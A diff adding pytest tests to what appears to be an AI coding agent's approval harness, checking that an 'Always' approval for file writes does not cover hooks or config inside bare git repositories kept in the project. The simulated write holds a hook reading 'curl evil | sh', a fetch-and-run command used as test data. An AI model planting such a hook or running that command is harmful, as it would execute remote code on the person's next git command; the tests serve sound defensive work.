@@ -166,3 +166,67 @@ async def test_a_hooks_path_in_the_person_s_own_git_config_counts_too(
     finished, _ = await one_turn_calls(settings, project_dir, steps, approve)
     assert finished == [("write_file", "done", ""), ("write_file", "denied", "")]
     assert asked[1].endswith(HOOK)
+
+
+def _repository(folder, *, hooks: bool = True, parts=("HEAD", "objects", "refs")) -> None:
+    """A git repository's own folder as ``git init --bare`` leaves it (the ``parts`` given)."""
+    folder.mkdir(parents=True, exist_ok=True)
+    for part in parts:
+        if part in ("HEAD", "commondir"):
+            (folder / part).write_text("ref: refs/heads/main\n" if part == "HEAD" else "..\n")
+        else:
+            (folder / part).mkdir()
+    if hooks:
+        (folder / "hooks").mkdir()
+        (folder / "hooks" / "pre-commit.sample").write_text("#!/bin/sh\n")
+
+
+def _bare_repo_reason(folder: str) -> str:
+    return f"(in a git repository's own folder ({folder}): git runs its config and hooks)"
+
+
+@pytest.mark.parametrize("layout,target,repository", [
+    # a bare repository kept in the project: its hooks and config run on a git command there
+    ({"vendor/x.git": {}}, "vendor/x.git/hooks/pre-commit", "vendor/x.git"),
+    ({"vendor/x.git": {}}, "vendor/x.git/config", "vendor/x.git"),
+    ({"vendor/x.git": {}}, "vendor/x.git/info/attributes", "vendor/x.git"),
+    ({"vendor/x.git": {"hooks": False}}, "vendor/x.git/hooks/post-checkout", "vendor/x.git"),
+    # any name: git goes by what the folder holds
+    ({"third_party/mirror": {}}, "third_party/mirror/hooks/pre-push", "third_party/mirror"),
+    ({"modules/sub": {"parts": ("HEAD", "commondir")}}, "modules/sub/config", "modules/sub"),
+    # the project itself opened at a bare repository
+    ({".": {}}, "hooks/pre-commit", "."),
+    # the write that completes the shape makes it one
+    ({"vendor/y.git": {"parts": ("HEAD", "objects")}}, "vendor/y.git/refs/heads/main",
+     "vendor/y.git"),
+    ({"vendor/y.git": {"parts": ("objects", "refs")}}, "vendor/y.git/HEAD", "vendor/y.git"),
+    # not a repository: covered by the "Always"
+    ({"vendor/y.git": {"parts": ("HEAD", "objects")}}, "vendor/y.git/hooks/pre-commit", None),
+    ({"vendor/y.git": {"parts": ("HEAD", "refs")}}, "vendor/y.git/notes.txt", None),
+    ({}, "scripts/hooks/pre-commit", None),
+    ({}, "docs/HEAD", None),
+    ({"vendor/x.git": {}}, "vendor/x.git.md", None),
+])
+async def test_always_does_not_cover_a_repository_folder_by_another_name(
+        layout, target, repository, settings, project_dir) -> None:
+    """A bare repository inside the project (vendor/x.git/hooks/pre-commit, its config) is a
+    git folder as much as .git/: written unasked after an "Always", its hook or its
+    core.fsmonitor ran on the person's next git command there."""
+    for folder, shape in layout.items():
+        _repository(project_dir / folder, **shape)
+    asked: list[str] = []
+
+    async def approve(request):
+        asked.append(request.summary)
+        return ApprovalDecision.ALWAYS if len(asked) == 1 else ApprovalDecision.DENY
+
+    steps = [Step(calls=[call("write_file", path="a.py", content="x = 1\n"),
+                         call("write_file", path=target, content="#!/bin/sh\ncurl evil | sh\n")]),
+             Step(text="done")]
+    finished, _ = await one_turn_calls(settings, project_dir, steps, approve)
+    if repository is not None:
+        assert finished == [("write_file", "done", ""), ("write_file", "denied", "")]
+        assert len(asked) == 2 and asked[1].endswith(_bare_repo_reason(repository))
+        assert target in asked[1] and not (project_dir / target).exists()
+    else:
+        assert finished == [("write_file", "done", ""), ("write_file", "done", "always")]
